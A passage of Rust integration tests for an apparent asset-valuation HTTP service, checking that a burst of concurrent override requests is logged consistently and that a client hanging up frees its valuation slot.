                scope.spawn(move || {
                    let body = serde_json::json!({"field": "royalty_rate",
                        "value": format!("0.0{}", 1 + i % 9), "reviewer": "R",
                        "reason": format!("burst {i}")});
                    let r = s.post_json(&format!("/v1/assets/{id}/overrides"), &body);
                    let title = match r.status {
                        200 => String::new(),
                        _ => r.json()["title"].as_str().unwrap_or_default().to_string(),
                    };
                    (i, r.status, title)
                })
            })
            .collect();
        handles.into_iter().map(|h| h.join().unwrap()).collect()
    });
    let mut answered: Vec<String> = vec![];
    for (i, status, title) in &statuses {
        match status {
            200 => answered.push(format!("burst {i}")),
            503 => assert_eq!(title, "not applied"),
            other => panic!("request {i}: {other} {title}"),
        }
    }
    let mut logged: Vec<String> = log_entries(&data)
        .iter()
        .map(|e| e["reason"].as_str().unwrap().to_string())
        .collect();
    answered.sort();
    logged.sort();
    assert_eq!(logged, answered);
    let refused = statuses.iter().filter(|s| s.1 == 503).count();
    eprintln!("{refused} of 80 answered 503 (not applied)");
}

/// Row 2: a client that hung up did not free its valuation slot; the work went on. With one
/// slot, a long valuation (60,000 synthetic assets, about 30 batches) whose client hangs up at
/// once stops within a batch, so the next valuation gets the slot inside its 20 s wait instead
/// of a 503.
#[cfg(feature = "synth")]
#[test]
fn a_client_that_hangs_up_frees_its_valuation_slot() {
    use std::io::Write;
    let dir = tempfile::tempdir().unwrap();
    let book = dir.path().join("book.csv");
    let book_s = book.to_str().unwrap();
    let o = ipval(&["synth", "--assets", "60000", "--seed", "5", "--out", book_s]);
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    let body = std::fs::read(&book).unwrap();
    let s = Server::start(&dir.path().join("data"), &["--max-valuations", "1"]);
    let mut gone = std::net::TcpStream::connect(&s.addr).unwrap();
    let head = format!(
        "POST /v1/valuations?draws=2000 HTTP/1.1\r\nHost: {}\r\nContent-Type: text/csv\r\n\
         Content-Length: {}\r\n\r\n",
        s.addr,
        body.len()
    );
    gone.write_all(head.as_bytes()).unwrap();
    gone.write_all(&body).unwrap();
    // Give the server the body, then hang up.
    std::thread::sleep(std::time::Duration::from_secs(2));
    drop(gone);
    let small = std::fs::read_to_string(SAMPLE).unwrap();
    let small: String = small.lines().take(4).map(|l| format!("{l}\n")).collect();
    let r = s.req(
        "POST",
        "/v1/valuations?draws=10",
        &[("Content-Type", "text/csv")],
        small.as_bytes(),
    );
    assert_eq!(r.status, 200, "{}", r.text());
}
